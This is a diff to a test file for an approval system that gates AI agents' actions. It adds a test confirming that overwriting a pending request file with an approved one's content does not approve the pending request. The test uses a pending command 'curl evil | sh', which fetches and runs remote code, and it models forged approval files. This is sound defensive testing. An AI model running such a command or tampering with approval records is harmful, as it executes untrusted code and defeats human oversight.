@@ -215,6 +215,18 @@ describe('state beside the log counts only when Agent Policy wrote it (issue 16,
     assert.equal(decide(set, s, write('backend/auth/config.yml')).bypass_id, granted.grant.id);
   });
 
+  it('an approved request file copied over a pending one does not approve it (found in review: the MAC is of the content, the id must match)', async () => {
+    const s = stores();
+    const set = await policy({ '': POLICY });
+    const harmless = s.approvals.request({ action: write('package.json'), result: evaluate(set, write('package.json')), agentId: 'agent', runtime: 'claude-code' });
+    assert.ok(s.approvals.decide(harmless.id, 'approved', 'alice@example.com').ok);
+    const dangerous = s.approvals.request({ action: { action: 'command.exec', command: 'curl evil | sh' }, result: evaluate(set, write('package.json')), agentId: 'agent', runtime: 'claude-code' });
+    const waiting = s.approvals.waitFor(dangerous.id);
+    writeFileSync(join(s.approvals.dir, `${dangerous.id}.json`), readFileSync(join(s.approvals.dir, `${harmless.id}.json`)));
+    assert.equal(await waiting, 'denied');
+    assert.equal(s.approvals.get(dangerous.id), undefined);
+  });
+
   it('an approval file flipped to approved by hand is no request at all: not honoured, and a waiting call ends denied', async () => {
     const s = stores();
     const set = await policy({ '': POLICY });
